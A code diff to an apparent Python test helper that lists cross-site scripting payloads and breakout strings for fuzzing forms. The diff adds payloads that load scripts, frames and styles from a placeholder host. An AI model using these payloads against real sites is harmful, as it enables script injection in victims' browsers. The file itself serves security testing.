@@ -1,11 +1,13 @@
-"""What people have typed into forms to run a script in somebody else's browser.
+"""What people have typed into forms to run a script in somebody else's browser, or to have it ask
+another host.
 
-Each says alert(1), so that a browser in which one runs opens a box.
+Each says alert, so that a browser in which one runs opens a box, or asks for something at MARKED.
 """
 
 import random
 from collections.abc import Iterator
 
+MARKED = "ran.invalid"  # no such host, ever
 PAYLOADS = [
     "<script>alert(1)</script>",
     "</script><script>alert(1)</script>",
@@ -71,14 +73,28 @@ PAYLOADS = [
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
     "<template><script>alert(1)</script></template>",
     "<data-x is=x onclick=alert(1)>x</data-x>",
+    "<svg/onload=alert()>",
+    f"<script src=//{MARKED}/s></script>",
+    f"<img src=//{MARKED}/i>",
+    f"\"><img src='//{MARKED}/q",
+    f"<style>@import '//{MARKED}/c'</style>",
+    f"<link rel=stylesheet href=//{MARKED}/l>",
+    f"<iframe src=//{MARKED}/f></iframe>",
+    f"<meta http-equiv=refresh content='0;url=//{MARKED}/m'>",
+    f"<svg><image href=//{MARKED}/v />",
+    f"<p style=background:url(//{MARKED}/b)>x",
+    f"<input type=image src=//{MARKED}/t>",
+    f"<script>document.title='{MARKED}'</script>",
 ]
 BEFORE = ["", '"', "'", "'>", '">', "`", "-->", "</p>", "</dd>", "</textarea>", "</td>", "周小麦 "]
 AFTER = ["", "<", "//", "<!--", '"', "'", "\t", "</script>", " x=", "\\"]
 
 
 def payloads(count: int) -> Iterator[str]:
-    """Those above first, then mixtures with what would break out of where they stand."""
-    yield from PAYLOADS[:count]
+    """Those above first, then mixtures with what would break out of where they stand. Fewer than
+    there are: some of every sort."""
+    few = min(count, len(PAYLOADS))
+    yield from (PAYLOADS[place * len(PAYLOADS) // few] for place in range(few))
     chance = random.Random(4)  # noqa: S311 - variety only
     for _more in range(count - len(PAYLOADS)):
         payload = chance.choice(PAYLOADS)
